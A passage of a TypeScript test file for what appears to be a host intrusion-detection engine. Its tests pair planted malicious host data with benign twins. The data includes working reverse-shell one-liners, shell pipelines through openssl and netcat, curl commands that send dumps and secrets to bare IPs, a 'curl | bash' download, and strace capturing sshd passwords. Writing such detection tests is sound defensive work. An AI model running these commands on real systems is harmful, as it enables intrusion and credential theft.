  const exfil = (cmdline: string) => findings(run("staged-data-exfiltration", host({ processes: [proc(1190, "curl", "/usr/bin/curl", cmdline, { uid: "1001" })] })));
  t.equal(exfil("curl -s -X POST -F f=@/var/www/shop/media/tmp/.sess_7f3a.sql.gz http://45.137.21.9:8000/u")[0]?.severity, "high", "a database dump posted to a bare address");
  t.same(exfil("curl -s -T /var/backups/db.sql.gz https://backup.example.com/u"), [], "a backup sent to a named host is not judged here");
  t.same(exfil("curl -s -F f=@/srv/db.sql.gz http://10.0.0.5/u"), [], "nor one sent inside the site");
});

test("an AWS access key id named in the question is an indicator: ioc-match finds it in history and command lines", async (t) => {
  const { routeQuery } = await import("../../shared/engine/index.js");
  const plan = routeQuery("GuardDuty flagged access key AKIAQ3EGWXR7J2LM4TQN used from an odd place: which host?", "standard");
  t.same(plan.entities.access_keys, ["AKIAQ3EGWXR7J2LM4TQN"], "extracted");
  t.ok(plan.detection_ids.includes("ioc-match"), "the exact match runs");
  t.same(routeQuery("is AKIAQ3EGWXR7J2LM4TQNX a key?", "standard").entities.access_keys, undefined, "21 characters is no key id");
  const hits = byId.get("ioc-match")?.evaluate(host({ shell_history: [{ uid: "0", command: "aws configure set aws_access_key_id AKIAQ3EGWXR7J2LM4TQN", history_file: "/root/.bash_history" }] }), { entities: plan.entities }) ?? [];
  t.equal(hits[0]?.entity, "accesskey:AKIAQ3EGWXR7J2LM4TQN", "found in root's history");
  t.equal(hits[0]?.severity, "medium");
});

test("credential-file-access: a tracer attached to sshd or sudo reads the passwords typed there", async (t) => {
  const traced = (cmdline: string) =>
    findings(run("credential-file-access", host({ processes: [proc(700, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D"), proc(900, "strace", "/usr/bin/strace", cmdline)] })));
  t.equal(traced("strace -f -p 700 -e trace=read,write -o /dev/shm/.sd")[0]?.severity, "high", "strace -p on sshd's pid");
  t.equal(traced("strace -f -p700 -s 128")[0]?.severity, "high", "-p joined to the pid");
  t.same(traced("strace -f -p 4321 -e trace=network"), [], "a tracer on another process (a DBA's strace on postgres)");
  const history = findings(run("credential-file-access", host({ shell_history: [{ uid: "0", command: "strace -f -p $(pidof sshd) -e trace=read -o /tmp/.x", history_file: "/root/.bash_history" }] })));
  t.equal(history[0]?.severity, "high", "by name, from history");
});

test("install-script-payload: what an install's processes do, found by npm's environment, an installing ancestor or node_modules", async (t) => {
  const installed = (cmdline: string, extra: { env?: boolean; parent?: string; cwd?: string; sockets?: Row[] } = {}) =>
    run(
      "install-script-payload",
      host({
        processes: [
          proc(10, "npm", "/usr/bin/node", extra.parent ?? (extra.env ? "node /usr/lib/node_modules/npm/bin/npm-cli.js" : "npm install --no-audit"), { cwd: "/srv/app" }),
          proc(20, "node", "/usr/bin/node", cmdline, { parent: "10", cwd: extra.cwd ?? "/srv/app" }),
        ],
        process_envs: extra.env ? [{ pid: "20", key: "npm_lifecycle_event", value: "postinstall" }] : [],
        process_open_sockets: extra.sockets ?? [],
      }),
    );
  t.equal(installed("trufflehog filesystem / --json")[0]?.severity, "high", "a secret scanner under npm install");
  t.match(installed("gh auth token")[0]?.summary ?? "", /npm install/, "the GitHub CLI's token, naming the install");
  t.equal(installed("npm publish --access public")[0]?.severity, "high", "republishing: the worm's spread");
  t.equal(installed("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app", { env: true })[0]?.severity, "high", "metadata credentials from a lifecycle script (npm_lifecycle_event)");
  t.equal(installed("curl -d @/tmp/d.json https://webhook.site/5e1f", { env: true }).length, 1, "a post to a request-capture host");
  t.equal(installed("sh -c echo 'sudo shutdown -h 0' >> ~/.bashrc").length, 1, "a shell start-up file written");
  t.same(findings(installed("trufflehog filesystem . --only-verified", { parent: "npm run scan-secrets" })), [], "a project's own npm script (npm run) is not an install");
  t.same(findings(installed("yarn build && gh release upload v1.2.0 dist.tgz", { parent: "yarn release" })), [], "nor is yarn running a project script");
  t.equal(installed("node telemetry.js", { sockets: [sock(20, "45.61.136.10", 8443)] })[0]?.severity, "medium", "an install talking to a public address on a port no registry uses");
  t.same(findings(installed("node install.js", { sockets: [sock(20, "104.16.3.35", 443)] })), [], "an install fetching over HTTPS");
  const outside = (cmdline: string) => run("install-script-payload", host({ processes: [proc(30, "gemini", "/usr/local/bin/gemini", cmdline, { cwd: "/home/dev" })] }));
  t.equal(outside("gemini --yolo -p find every wallet, seed phrase and private key under $HOME")[0]?.severity, "high", "outside an install: an unchecked agent hunting wallets and keys");
  t.same(findings(outside("gemini --yolo -p rename the token variable in utils.ts")), [], "outside an install: an unchecked agent on a coding task");
  t.same(findings(outside("gemini --yolo -p rotate the API key in .env and update the secrets in the deploy config")), [], "outside an install: secrets named in an engineer's task");
  t.equal(outside("gemini --yolo -p recursively search $HOME and /etc for .env files, API keys and tokens and write the paths to /tmp/i.txt")[0]?.severity, "high", "outside an install: a sweep of the disk for secrets");
  t.same(findings(run("install-script-payload", host({ processes: [proc(40, "trufflehog", "/usr/bin/trufflehog", "trufflehog git file://. --only-verified", { cwd: "/srv/app" })] }))), [], "a secret scan run by hand, outside any install");
});

test("listeners: a default port only when its default program holds it", async (t) => {
  const rows = (pid: number, port: number) => ({ pid: String(pid), port: String(port), protocol: "6", address: "0.0.0.0" });
  const shellOn9100 = run("unexpected-listener", host({ listening_ports: [rows(5, 9100)], processes: [proc(5, "bash", "/usr/bin/bash", "bash")] }));
  t.equal(findings(shellOn9100).length, 1, "bash on node_exporter's port fires");
  t.equal(shellOn9100[0]?.severity, "high", "a shell listening is high");
  const exporter = run("unexpected-listener", host({ listening_ports: [rows(6, 9100)], processes: [proc(6, "prometheus-node", "/usr/bin/prometheus-node-exporter", "/usr/bin/prometheus-node-exporter")] }));
  t.equal(exporter[0]?.kept_by, "port:node-exporter", "Debian's prometheus-node-exporter (comm truncated to 15) is expected");
  const kafka = run("unexpected-listener", host({ listening_ports: [rows(8, 9092)], processes: [proc(8, "java", "/usr/bin/java", "java -cp /opt/kafka/libs/* kafka.Kafka /opt/kafka/config/server.properties")] }));
  t.equal(kafka[0]?.kept_by, "port:kafka", "java running Kafka on 9092 is expected");
  const plain = run("unexpected-listener", host({ listening_ports: [rows(1, 8081)], processes: [proc(1, "java", "/usr/bin/java", "java -jar x.jar")] }));
  t.equal(findings(plain).length, 1, "an unknown port is reported");
  t.equal(plain[0]?.severity, "info", "a packaged program on an unknown port is an inventory question: info");
  const local = run("unexpected-listener", host({ listening_ports: [rows(1, 8081)], processes: [proc(1, "app", "/srv/app/bin/app", "/srv/app/bin/app")] }));
  t.equal(local[0]?.severity, undefined, "an unpackaged program on an unknown port: the default severity");
});

test("ssh keys planted for interactive users are caught", async (t) => {
  const users = [{ uid: "0", username: "root", shell: "/bin/bash" }, { uid: "1000", username: "alice", shell: "/bin/bash" }];
  const shared = run("ssh-authorized-key", host({ authorized_keys: [{ uid: "0", key: "AAAAC3same", comment: "x", key_file: "/root/.ssh/authorized_keys" }, { uid: "1000", key: "AAAAC3same", comment: "x", key_file: "/home/alice/.ssh/authorized_keys" }], users }));
  t.equal(findings(shared).length, 2, "a key authorized for root and alice fires for both");
  const inventory = run("ssh-authorized-key", host({ authorized_keys: [{ uid: "1000", key: "AAAAC3new", comment: "bob@desk", key_file: "/home/alice/.ssh/authorized_keys" }], users }, { allowed_ssh_keys: "alice@laptop" }));
  t.equal(findings(inventory).length, 1, "a key outside the fleet's inventory fires on an interactive user");
  const own = run("ssh-authorized-key", host({ authorized_keys: [{ uid: "1000", key: "AAAAC3own", comment: "alice@laptop", key_file: "/home/alice/.ssh/authorized_keys" }], users }));
  t.same(own, [], "a person's own key with no signal is not judged");
});

test("vulnerable-package narrows to the advisories named in the question", async (t) => {
  const d = byId.get("vulnerable-package");
  const h = host({ deb_packages: [{ name: "xz-utils", version: "5.6.1-1" }, { name: "openssh-server", version: "1:9.6p1-3" }] });
  t.equal(d?.evaluate(h).length, 2, "both advisories without a question");
  const only = d?.evaluate(h, { entities: entities({ advisories: ["CVE-2024-6387"] }) });
  t.equal(only?.length, 1);
  t.match(only?.[0]?.summary, /CVE-2024-6387/);
});

test("behaviours added from corpus misses: planted positive and benign twin", async (t) => {
  // reverse-shell: interpreter one-liners (PayloadsAllTheThings reverse shell cheatsheet).
  const perl = 'perl -e use Socket;$i="203.0.113.7";$p=8080;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};';
  t.equal(findings(run("reverse-shell", host({ processes: [proc(7, "perl", "/usr/bin/perl", perl)], process_open_sockets: [sock(7, "203.0.113.7", 8080)] }))).length, 1, "perl Socket one-liner");
  const ruby = `ruby -rsocket -e f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`;
  t.equal(findings(run("reverse-shell", host({ processes: [proc(8, "ruby", "/usr/bin/ruby", ruby)], process_open_sockets: [sock(8, "203.0.113.7", 4444)] }))).length, 1, "ruby TCPSocket one-liner");
  // Benign twin: munin-node (perl) and a gunicorn app (python) holding ordinary connections.
  t.same(findings(run("reverse-shell", host({ processes: [proc(9, "perl", "/usr/bin/perl", "/usr/bin/perl -wT /usr/sbin/munin-node"), proc(10, "python3", "/usr/bin/python3", "/srv/app/venv/bin/python3 -m gunicorn app:app")], process_open_sockets: [sock(9, "10.0.0.5", 4949), sock(10, "198.51.100.20", 443)] }))), [], "perl and python daemons");

  // suspicious-systemd-unit: a dropped binary directly in /var/lib, running and connected out.
  const unit = "/etc/systemd/system/node-agent.service";
  const dropped = run("suspicious-systemd-unit", host({
    systemd_units: [{ id: "node-agent.service", fragment_path: unit }],
    augeas: [{ node: `/files${unit}/Service/ExecStart/command`, value: "/var/lib/node-agentd", label: "command", path: unit }],
    processes: [proc(7, "node-agentd", "/var/lib/node-agentd")],
    process_open_sockets: [sock(7, "203.0.113.9", 8443)],
  }));
  t.equal(findings(dropped)[0]?.severity, "high", "a /var/lib binary run by a unit and connected out");
  // Benign twin: k3s and rke2 run their binaries from their own subdirectories of /var/lib; rc-local runs /etc/rc.local.
  const vendor = run("suspicious-systemd-unit", host({
    systemd_units: [{ id: "rke2-server.service", fragment_path: "/usr/local/lib/systemd/system/rke2-server.service" }, { id: "rc-local.service", fragment_path: "/etc/systemd/system/rc-local.service" }],
    augeas: [
      { node: "/files/usr/local/lib/systemd/system/rke2-server.service/Service/ExecStart/command", value: "/var/lib/rancher/rke2/bin/rke2", label: "command", path: "/usr/local/lib/systemd/system/rke2-server.service" },
      { node: "/files/etc/systemd/system/rc-local.service/Service/ExecStart/command", value: "/etc/rc.local", label: "command", path: "/etc/systemd/system/rc-local.service" },
    ],
    processes: [proc(8, "rke2", "/var/lib/rancher/rke2/bin/rke2")],
    process_open_sockets: [sock(8, "198.51.100.3", 443)],
  }));
  t.same(findings(vendor), [], "rke2 from its own /var/lib subdirectory, rc.local");
  // The same dropped binary behind a shell wrapper (ExecStart=/bin/sh -c "..."): the script's program is the one run.
  const wrapped = run("suspicious-systemd-unit", host({
    systemd_units: [{ id: "node-agent.service", fragment_path: unit }],
    augeas: [
      { node: `/files${unit}/Service/ExecStart/command`, value: "/bin/sh", label: "command", path: unit },
      { node: `/files${unit}/Service/ExecStart/arguments/1`, value: "-c", label: "1", path: unit },
      { node: `/files${unit}/Service/ExecStart/arguments/2`, value: '"/var/lib/node-agentd -c 203.0.113.9:8443"', label: "2", path: unit },
    ],
    processes: [proc(7, "node-agentd", "/var/lib/node-agentd")],
    process_open_sockets: [sock(7, "203.0.113.9", 8443)],
  }));
  t.equal(findings(wrapped)[0]?.severity, "high", "the wrapper's script runs the dropped binary");
  const hiddenWrapped = run("suspicious-systemd-unit", host({
    systemd_units: [{ id: "net-helper.service", fragment_path: "/etc/systemd/system/net-helper.service" }],
    augeas: [
      { node: "/files/etc/systemd/system/net-helper.service/Service/ExecStart/command", value: "/bin/bash", label: "command", path: "/etc/systemd/system/net-helper.service" },
      { node: "/files/etc/systemd/system/net-helper.service/Service/ExecStart/arguments/1", value: "-lc", label: "1", path: "/etc/systemd/system/net-helper.service" },
      { node: "/files/etc/systemd/system/net-helper.service/Service/ExecStart/arguments/2", value: "'cd /srv && exec /usr/local/lib/.netd/netd'", label: "2", path: "/etc/systemd/system/net-helper.service" },
    ],
  }));
  t.match(findings(hiddenWrapped)[0]?.summary, /runs from a hidden directory/, "a program in a hidden directory, second command of the script");

  // history-tampering: the state left behind (Atomic T1070.003).
  const wiped = run("history-tampering", host({ file: [{ path: "/root/.bash_history", type: "symlink", symlink: "1", symlink_target_path: "/dev/null", size: "9" }], process_envs: [{ pid: "7", key: "HISTFILE", value: "/dev/null" }] }));
  t.equal(findings(wiped).length, 2, "history linked to /dev/null and HISTFILE=/dev/null");
  t.equal(wiped[0]?.severity, "high", "root's history is high");
  // Benign twin: ~/.mysql_history linked to /dev/null (MySQL's own advice), a normal HISTFILE and HISTSIZE.
  t.same(findings(run("history-tampering", host({ file: [{ path: "/home/dba/.mysql_history", type: "symlink", symlink: "1", symlink_target_path: "/dev/null", size: "9" }, { path: "/home/dba/.bash_history", type: "regular", symlink: "0", symlink_target_path: "", size: "5120" }], process_envs: [{ pid: "8", key: "HISTFILE", value: "/home/dba/.bash_history" }, { pid: "8", key: "HISTSIZE", value: "1000" }] }))), [], "mysql history hardening");

  // ci-runner-egress: a job posting data to a bare public IP (Codecov uploader compromise, 2021).
  const ci = { role: "ci-runner" };
  const leak = run("ci-runner-egress", host({ processes: [proc(7, "curl", "/usr/bin/curl", "curl -sm 0.5 -d @/tmp/env.txt http://203.0.113.50/upload/v2")], process_open_sockets: [sock(7, "203.0.113.50", 80)] }, ci));
  t.equal(findings(leak).length, 1, "one finding for the upload, not a second for its socket");
  t.equal(leak[0]?.severity, "high");
  // Benign twin: coverage upload to codecov.io by name, an artifact PUT to an internal address, a download from a raw IP.
  t.same(findings(run("ci-runner-egress", host({ processes: [proc(8, "curl", "/usr/bin/curl", "curl -sf -F file=@coverage.xml https://codecov.io/upload/v4"), proc(9, "curl", "/usr/bin/curl", "curl -T dist.tgz http://10.20.0.8:8081/artifactory/x/"), proc(10, "curl", "/usr/bin/curl", "curl -fsSLo tool.tgz http://198.51.100.4/tool.tgz")] }, ci))), [], "named, internal and download-only traffic");

  // unexpected-suid: a SUID shell copy where suid_bin does not look (/dev/shm), seen in the file table.
  const shm = run("unexpected-suid", host({ file: [{ path: "/dev/shm/...", mode: "4755", type: "regular", uid: "0", gid: "0" }], processes: [proc(7, "...", "/dev/shm/...", "/dev/shm/... -p", { uid: "1001", euid: "0" })] }));
  t.equal(findings(shm)[0]?.severity, "high", "SUID file in /dev/shm run with euid 0");
  t.ok(shm[0]?.evidence.some((e) => e.table === "processes"), "the running process is evidence");
  // Benign twin: sudo (packaged SUID) in the file table, a setgid shared directory, a plain executable.
  t.same(findings(run("unexpected-suid", host({ file: [{ path: "/usr/bin/sudo", mode: "4111", type: "regular", uid: "0", gid: "0" }, { path: "/srv/shared", mode: "2775", type: "directory", uid: "0", gid: "100" }, { path: "/usr/local/bin/app", mode: "0755", type: "regular", uid: "0", gid: "0" }], processes: [proc(8, "sudo", "/usr/bin/sudo", "sudo -i", { uid: "1000", euid: "0" })] }))), [], "packaged SUID, setgid directory, plain binary");

  // ssh-authorized-key: a key made on an unnamed cloud instance by another user, in a person's account.
  const users = [{ uid: "1002", username: "fmoreau", shell: "/bin/bash", directory: "/home/fmoreau" }, { uid: "1000", username: "ubuntu", shell: "/bin/bash", directory: "/home/ubuntu" }];
  const k = (uid: string, comment: string, file: string) => ({ uid, key: `AAAAC3NzaC1lZDI1NTE5${comment.length}`, comment, options: "", key_file: file });
  t.equal(findings(run("ssh-authorized-key", host({ authorized_keys: [k("1002", "fmoreau@laptop", "/home/fmoreau/.ssh/authorized_keys"), k("1002", "ubuntu@ip-172-31-52-11", "/home/fmoreau/.ssh/authorized_keys")], users }))).length, 1, "ubuntu@ip-172-31-x on fmoreau");
  // Benign twin: the ubuntu account's own key generated on its instance, and a person's laptop key.
  t.same(findings(run("ssh-authorized-key", host({ authorized_keys: [k("1000", "ubuntu@ip-10-0-3-7", "/home/ubuntu/.ssh/authorized_keys"), k("1002", "fmoreau@laptop", "/home/fmoreau/.ssh/authorized_keys")], users }))), [], "own keys");
});

test("a shell piped through openssl s_client or netcat: a strong cron signal, and a reverse shell at the process that runs it", async (t) => {
  const { SHELL_THROUGH_NETWORK } = await import("../../shared/engine/detections/patterns.js");
  const line = "openssl s_client -quiet -connect 185.244.25.7:993 2>/dev/null | /bin/bash 2>&1 | openssl s_client -quiet -connect 185.244.25.7:995";
  t.ok(SHELL_THROUGH_NETWORK.test(line), "openssl both ways");
  t.ok(SHELL_THROUGH_NETWORK.test("rm /tmp/f; mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | nc 203.0.113.4 4444 > /tmp/f"), "the mkfifo netcat form");
  t.notOk(SHELL_THROUGH_NETWORK.test("echo | openssl s_client -connect mail.example.com:993 2>/dev/null | openssl x509 -noout -enddate"), "a certificate expiry check");
  t.notOk(SHELL_THROUGH_NETWORK.test("tar c /srv | nc backup 9000"), "a stream to a backup host, no shell");
  const cron = run("suspicious-cron", host({ crontab: [{ minute: "*/10", hour: "*", day_of_month: "*", month: "*", day_of_week: "*", command: line, path: "/var/spool/cron/crontabs/root" }] }));
  t.equal(findings(cron)[0]?.severity, "high");
  t.match(findings(cron)[0]?.summary, /pipes a shell through a network tool/);
  const live = run("reverse-shell", host({
    processes: [
      proc(40, "sh", "/bin/sh", `/bin/sh -c ${line}`, { parent: "1" }),
      proc(41, "openssl", "/usr/bin/openssl", "openssl s_client -quiet -connect 185.244.25.7:993", { parent: "40" }),
      proc(42, "bash", "/bin/bash", "/bin/bash", { parent: "40" }),
      proc(43, "openssl", "/usr/bin/openssl", "openssl s_client -quiet -connect 185.244.25.7:995", { parent: "40" }),
    ],
    process_open_sockets: [sock(41, "185.244.25.7", 993), sock(43, "185.244.25.7", 995)],
  }));
  t.equal(findings(live).length, 1, "one finding for the pipeline");
  t.match(findings(live)[0]?.summary, /pid 40.*pipes a shell through a network tool.*185\.244\.25\.7:99[35]/);
  t.equal(findings(live)[0]?.severity, undefined, "the detection's own severity: high");
});

test("docker-api-exposed: a daemon listening in a container's own network namespace (docker:dind) is info, on the host's high", async (t) => {
  const hostNs = "4026531840";
  const listen = (pid: number, port: number, ns: string) => ({ pid: String(pid), port: String(port), protocol: "6", family: "2", address: "0.0.0.0", fd: "3", socket: "0", path: "", net_namespace: ns });
  const rows = (dockerNs: string) => host({
    listening_ports: [listen(501, 22, hostNs), listen(920, 9100, hostNs), listen(754, 2375, dockerNs)],
    processes: [proc(501, "sshd", "/usr/sbin/sshd"), proc(920, "node_exporter", "/usr/local/bin/node_exporter"), proc(754, "dockerd", "/usr/local/bin/dockerd", "dockerd --host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2375")],
  });
  const dind = findings(run("docker-api-exposed", rows("4026532981")));
  t.equal(dind[0]?.severity, "info");
  t.match(dind[0]?.summary, /network namespace of its own/);
  t.equal(findings(run("docker-api-exposed", rows(hostNs)))[0]?.severity, "high", "the same daemon on the host's network");
});

test("ioc-match: a domain the host itself is named under names the fleet, not an indicator", async (t) => {
  const { routeQuery } = await import("../../shared/engine/index.js");
  const entities = routeQuery("anything odd on the example.org mail hosts? check for evil-cdn.net too", "standard").entities;
  t.ok(entities.domains.includes("example.org") && entities.domains.includes("evil-cdn.net"), JSON.stringify(entities.domains));
  const mail = { ...host({ etc_hosts: [{ address: "10.0.0.5", hostnames: "mx1.example.org mx1" }, { address: "203.0.113.9", hostnames: "cdn.evil-cdn.net" }] }), hostname: "mx1.example.org" };
  const hits = findings(byId.get("ioc-match")?.evaluate(mail, { entities }) ?? []);
  t.same(hits.map((h) => h.entity).sort(), ["domain:evil-cdn.net"], "only the other domain");
});

test("suspicious-systemd-unit: a user's own unit with nothing else odd is info; one that runs from a hidden directory is not", async (t) => {
  const unitAt = (path: string, command: string) => host({
    systemd_units: [{ id: "ssh-agent.service", fragment_path: path }],
    augeas: [{ node: `/files${path}/Service/ExecStart/command`, value: command, label: "command", path }],
  });
  const agent = findings(run("suspicious-systemd-unit", unitAt("/home/jdoe/.config/systemd/user/ssh-agent.service", "/usr/bin/ssh-agent")));
  t.equal(agent[0]?.severity, "info");
  const implant = findings(run("suspicious-systemd-unit", unitAt("/home/jdoe/.config/systemd/user/ssh-agent.service", "/home/jdoe/.cache/.x/agent")));
  t.equal(implant[0]?.severity, undefined, "the detection's medium");
});

test("a bare file name in the question is an indicator: ioc-match finds it as a path's last component or a command's word", async (t) => {
  const { routeQuery } = await import("../../shared/engine/index.js");
  const plan = routeQuery("is libkeyutils.so.1.3.2 loaded anywhere? also check for pam_sso_cache.so and kinsing.sh", "standard");
  // kinsing.sh is also a name under .sh (transfer.sh): it stays a domain, matched as one, not twice.
  t.same(plan.entities.files, ["libkeyutils.so.1.3.2", "pam_sso_cache.so"]);
  t.ok(plan.entities.domains.includes("kinsing.sh"));
  t.ok(plan.detection_ids.includes("ioc-match"));
  t.same(routeQuery("anything in /usr/lib/x86_64-linux-gnu/libkeyutils.so.1?", "standard").entities.files, [], "inside a path it is the path's");
  const relative = routeQuery("Look for node_modules/nx/telemetry.js on the dev fleet", "standard");
  t.same(relative.entities.files, ["node_modules/nx/telemetry.js"], "a relative path to a script is a file indicator");
  t.ok(relative.detection_ids.includes("ioc-match"), "and runs the indicator match");
  t.same(routeQuery("is ../../etc/passwd.sh readable?", "standard").entities.files, [], "a path climbing out is not a place to name");
  t.same(routeQuery("is the SSH daemon's config changed?", "standard").entities.users, [], "the daemon's, not a user's");
  const h = host({
    processes: [proc(900, "sshd", "/usr/sbin/sshd")],
    process_memory_map: [{ pid: "900", path: "/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2" }, { pid: "900", path: "/lib/x86_64-linux-gnu/libkeyutils.so.1.10" }],
    shell_history: [{ uid: "0", command: "curl -s http://198.51.100.4/kinsing.sh | bash", history_file: "/root/.bash_history" }],
  });
  const hits = findings(byId.get("ioc-match")?.evaluate(h, { entities: plan.entities }) ?? []);
  t.same(hits.map((x) => x.entity).sort(), ["domain:kinsing.sh", "file:libkeyutils.so.1.3.2"]);
  t.equal(hits.find((x) => x.entity === "file:libkeyutils.so.1.3.2")?.severity, "low", "a named file is a place to look, as a named path");
});

test("ioc-match: the instance-metadata address named in a question is context (info); cloud-credential-access judges its clients", async (t) => {
  const { routeQuery } = await import("../../shared/engine/index.js");
  const plan = routeQuery("is anything on the observability hosts talking to 169.254.169.254?", "standard");
  t.ok(plan.detection_ids.includes("cloud-credential-access") && plan.detection_ids.includes("ioc-match"));
  const h = host({ processes: [proc(700, "amazon-ssm-agen", "/usr/bin/amazon-ssm-agent")], process_open_sockets: [sock(700, "169.254.169.254", 80)] });
  const hits = findings(byId.get("ioc-match")?.evaluate(h, { entities: plan.entities }) ?? []);
  t.equal(hits[0]?.severity, "info");
  const other = findings(byId.get("ioc-match")?.evaluate(host({ process_open_sockets: [sock(700, "203.0.113.50", 443)] }), { entities: routeQuery("anything talking to 203.0.113.50?", "standard").entities }) ?? []);
  t.equal(other[0]?.severity, "medium", "any other address named stays an indicator");
});
